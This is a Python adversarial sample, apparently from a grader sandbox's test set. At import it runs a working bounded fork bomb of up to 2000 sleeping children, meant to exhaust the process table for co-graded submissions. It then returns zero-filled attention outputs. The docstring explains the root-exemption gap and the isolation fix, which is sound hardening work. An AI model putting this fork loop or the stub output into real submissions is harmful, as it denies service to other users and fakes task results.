"""Adversarial sample: start as many processes as the machine allows (a fork bomb, bounded).

Attack: at import, fork sleeping children until fork fails (at most 2000), so that the machine's
process table fills and classmates graded beside it cannot start theirs. For a root grader
RLIMIT_NPROC does not apply (the kernel exempts root), so nothing stopped it.
New design: the submission runs as a uid of its own (RLIMIT_NPROC counts it) in a pids cgroup of its
own (or, without one, under the keeper's watchdog): fork fails at the limit, and every child dies with
the worker's PID namespace. The sample returns zeros.
"""
import os
import time

import torch

_children = 0
while _children < 2000:
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
    _children += 1


def self_attention(x, w_q, w_k, w_v, causal=False):
    z = dict(dtype=x.dtype, device=x.device)
    return torch.zeros(*x.shape[:-1], w_v.shape[0], **z), torch.zeros(*x.shape[:-1], x.shape[-2], **z)
